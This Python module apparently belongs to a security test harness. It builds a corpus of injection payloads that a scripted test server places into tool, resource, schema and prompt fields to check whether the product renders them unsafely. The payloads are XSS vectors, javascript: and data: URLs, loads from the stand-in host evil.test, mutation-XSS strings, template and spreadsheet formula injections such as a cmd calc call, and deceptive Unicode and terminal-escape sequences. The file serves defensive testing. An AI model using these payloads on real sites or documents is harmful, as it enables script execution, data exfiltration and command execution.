"""The corpus of texts that try to run, load, navigate or hide something when a page shows them. Standard library only: the
scripted server of scripted.py runs with it outside of the product's environment.

Each text carries a number that names its field and itself, so that an execution or a request says where it came from.
A text calls `hit(number)`, loads from or navigates to EVIL, or leaves an element or a character that detector.py finds.
"""

import re
from functools import lru_cache

EVIL = "evil.test"
_IMG = "<img src=x onerror=hit({n})>"

#: Where each text is live: how the control of the detector places it on a page. `html`: as markup. `double`, `single`,
#: `bare`: in a value of an attribute with that quote. `script`, `script'`, `script``: in a string of a script. `url`: as an
#: address. `css`: as a value of a style. `markdown`, `entity`, `percent`, `escape`, `nfkc`, `upper`: as markup after this
#: conversion. `template`: through a template engine. `twice`: as markup that is parsed, serialised and parsed again.
#: `text`: as plain text. `cell`: in a spreadsheet.
PAYLOADS: list[tuple[str, str]] = [
    *(("html", text) for text in (
        "<script>hit({n})</script>", "<ScRiPt >hit({n})</sCrIpT>", _IMG, "<img/src=x onerror=hit({n})//>",
        "<img src=x:x onerror='hit({n})'>", "<svg onload=hit({n})>", "<svg><script>hit({n})</script></svg>",
        "<svg><animate onbegin=hit({n}) attributeName=x dur=1s>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=hit({n})>#x'/></svg>",
        "<svg><foreignObject><img src=x onerror=hit({n})></foreignObject></svg>",
        "<svg><a xlink:href=javascript:hit({n})><text y=20>x</text></a></svg>", "<body onload=hit({n})>",
        "<details open ontoggle=hit({n})>x</details>", "<video><source onerror=hit({n})></video>",
        "<audio src=x onerror=hit({n})></audio>", '<iframe srcdoc="<script>hit({n})</script>"></iframe>',
        "<iframe src=javascript:hit({n})></iframe>", "<iframe src=//evil.test/{n}></iframe>",
        "<object data=javascript:hit({n})></object>", "<embed src=//evil.test/{n}>", "<input autofocus onfocus=hit({n})>",
        "<a href=javascript:hit({n})>x</a>", "<form action=javascript:hit({n})><button>x</button></form>",
        "<form action=//evil.test/{n}><input name=csrfmiddlewaretoken></form>",
        "<button formaction=javascript:hit({n})>x</button>", "<meta http-equiv=refresh content='0;url=//evil.test/{n}'>",
        "<base href=//evil.test/{n}/>", "<link rel=stylesheet href=//evil.test/{n}>", "<script src=//evil.test/{n}></script>",
        "<style>@import '//evil.test/{n}';</style>", "<style>*{background:url(//evil.test/{n})}</style>",
        "<div style='background:url(//evil.test/{n})'>x</div>", "<marquee onstart=hit({n})>x</marquee>",
        "<div onpointerover=hit({n})>x</div>", "<x onclick=hit({n}) tabindex=1>x</x>",
        "<img srcset=//evil.test/{n}>", "<video poster=//evil.test/{n}></video>",
        "<math href=javascript:hit({n})>x</math>", "<math><maction xlink:href=javascript:hit({n})>x</maction></math>",
        "<xmp><p title='</xmp><img src=x onerror=hit({n})>'></xmp>", "<!--><img src=x onerror=hit({n})>-->",
        "<![CDATA[><img src=x onerror=hit({n})>]]>", "</title><img src=x onerror=hit({n})>",
        "</textarea><img src=x onerror=hit({n})>", "</option></select><img src=x onerror=hit({n})>",
        "</style><img src=x onerror=hit({n})>", "</script><script>hit({n})</script>", "--><img src=x onerror=hit({n})>",
        "</pre></code></template><img src=x onerror=hit({n})>", "</noscript><img src=x onerror=hit({n})>",
        "<div hx-get=//evil.test/{n} hx-trigger=load>x</div>", "<div data-hx-get=//evil.test/{n} data-hx-trigger=load>x</div>",
        "<div hx-on:load=hit({n}) hx-trigger=load>x</div>", "<b hx-vals='js:{x:hit({n})}' hx-post=/>x</b>",
        "<div x-data x-init=hit({n})>x</div>", "<p v-on:click=hit({n})>x</p>", "<p @click=hit({n})>x</p>",
        "<a id=clobber name=config href=//evil.test/{n}>x</a>", "<form id=clobber><input name=attributes value={n}></form>",
        "<img name=clobber id=getElementById alt={n}>", "<output name=clobber form=x>{n}</output>",
    )),
    *(("double", text) for text in (
        '"><img src=x onerror=hit({n})>', '" autofocus onfocus=hit({n}) x="', '" onmouseover=hit({n}) "',
        'x" style="background:url(//evil.test/{n})', '"><script src=//evil.test/{n}></script>', '"><svg onload=hit({n})>',
    )),
    *(("single", text) for text in (
        "'><img src=x onerror=hit({n})>", "' autofocus onfocus=hit({n}) x='", "'/onpointerenter=hit({n})/x='",
    )),
    ("bare", "x autofocus onfocus=hit({n})"),
    ("bare", "`><img src=x onerror=hit({n})>"),
    ("script", '";hit({n});//'), ("script", '"-hit({n})-"'), ("script'", "';hit({n});//"), ("script`", "${hit({n})}"),
    *(("url", text) for text in (
        "javascript:hit({n})", "JaVaScRiPt:hit({n})", "\tjava\nscript:hit({n})", "javascript://evil.test/%0ahit({n})",
        " javascript:hit({n})", "data:text/html,<script>hit({n})</script>", "vbscript:hit({n})",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit({n})'/>", "//evil.test/{n}",
        "https:evil.test/{n}", "http://good.test@evil.test/{n}", "https://evil.test/{n}.png", r"\\evil.test/{n}",
    )),
    ("css", "red;background:url(//evil.test/{n})"), ("css", "url(//evil.test/{n})"),
    *(("markdown", text) for text in (
        "[x](javascript:hit({n}))", "![x](//evil.test/{n})", "![x](https://evil.test/{n}.png)",
        "[x](data:text/html,<script>hit({n})</script>)", "<javascript:hit({n})>", "# <img src=x onerror=hit({n})>",
        "- <svg onload=hit({n})>", "[<img src=x onerror=hit({n})>](https://good.test)", "```\n</code></pre><svg onload=hit({n})>\n```",
        "| <svg onload=hit({n})> |\n|---|\n| x |",
    )),
    ("entity", "&lt;img src=x onerror=hit({n})&gt;"), ("entity", "&#60;svg onload=hit({n})&#62;"),
    ("entity", "&#x22;&#x3e;&#x3c;svg onload=hit({n})&#x3e;"), ("percent", "%3Cimg%20src%3Dx%20onerror%3Dhit({n})%3E"),
    ("escape", r"\x3cimg src=x onerror=hit({n})\x3e"), ("escape", r"\u003csvg onload=hit({n})\u003e"),
    ("nfkc", "\uff1cimg src=x onerror=hit({n})\uff1e"), ("upper", "<\u017fcript>/*{n}*/</\u017fcript>"),
    ("twice", "<noscript><p title='</noscript><img src=x onerror=hit({n})>'></noscript>"),
    ("twice", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit({n})&gt;'>"),
    ("twice", "<svg></p><style><a id='</style><img src=x onerror=hit({n})>'>"),
    ("template", '{{ "hit"|add:"{n}" }}'), ("template", '{% firstof "hi" %}t{n}'),
    ("script`", "${constructor.constructor('hit({n})')()}"),
    *(("text", text) for text in (
        "{n}\u202egnp.exe", "{n}\u2066\u200b\u200dhidden", "{n}\U000e0068\U000e0069\U000e0074",
        "{n}\x1b[2J\x1b]8;;http://evil.test\x07x", "{n}\x9b31m\x85\x7f", "{n}\ufeff\u2028\u00ad\u3164",
    )),
    *(("cell", text) for text in (
        '=HYPERLINK("//evil.test/{n}","x")', "+cmd|' /C calc'!A{n}", "@SUM({n})", "-2+{n}", "\t={n}", "\r={n}",
    )),
    ("text", "{n}\r\n192.0.2.1 - - GET / 200\u0085x"),
]  # fmt: skip
MARK = re.compile(r"7(\d{3})(\d{3})7")

#: what the scripted server puts texts into
_SAID = """
    info.name info.title info.version info.description info.website info.icon instructions stderr
    capability.name tool.name tool.title tool.description tool.annotation tool.icon tool.mime tool.meta
    schema.title schema.description schema.property schema.property_title schema.property_description
    schema.default schema.enum schema.enum_name schema.const_title schema.pattern schema.format schema.example
    schema.ref schema.output resource.uri resource.name resource.title resource.description resource.mime
    resource.audience resource.modified resource.icon contents.uri contents.mime contents.text contents.html
    contents.markdown contents.blob template.uri template.name template.title template.description template.mime
    prompt.name prompt.title prompt.description prompt.argument prompt.argument_title
    prompt.argument_description message.role message.text message.description message.image message.link
    completion.value result.text result.markdown result.type result.image result.audio result.data result.key
    result.value result.cell result.column result.meta link.uri link.name link.title link.description link.mime
    link.icon embedded.uri embedded.mime embedded.text embedded.blob error.message error.data error.key
    progress.message log.logger log.data log.key form.message form.property form.title form.description
    form.enum form.enum_name form.default form.const_title url.message url.address url.id sampling.system
    sampling.text sampling.hint sampling.tool sampling.stop task.message http.body http.header http.reason
    argument.name argument.value audit.subject audit.actor audit.detail audit.agent wire.body wire.header
    wire.key question.answer version.text version.json version.uri version.mime package.tool package.reason
    draft.step draft.report search.query
"""
SERVER_FIELDS = _SAID.split()


def number(field: int, payload: int) -> str:
    return f"7{field:03}{payload:03}7"


def filled(field: int, payload: int) -> str:
    return PAYLOADS[payload][1].replace("{n}", number(field, payload))


def text(field: int, row: int, most: int | None = None) -> str:
    """The text of one field in one row: rows and fields go through the corpus, among the texts of at most that many
    characters."""
    fitting = _fitting(most)
    return filled(field, fitting[(row + field * 7) % len(fitting)])


@lru_cache
def _fitting(most: int | None) -> list[int]:
    """A text that is cut is another text."""
    return [at for at in range(len(PAYLOADS)) if most is None or len(filled(0, at)) <= most]


@lru_cache(maxsize=1024)
def whole(field: int) -> str:
    """All of the corpus in one text, each on a line. What leaves the parser in another state comes last."""
    last = ("<style", "<!--", "<xmp", "<noscript", "<math", "<![CDATA", "</script", "```")
    order = sorted(range(len(PAYLOADS)), key=lambda at: PAYLOADS[at][1].startswith(last))
    return "\n".join(filled(field, at) for at in order)
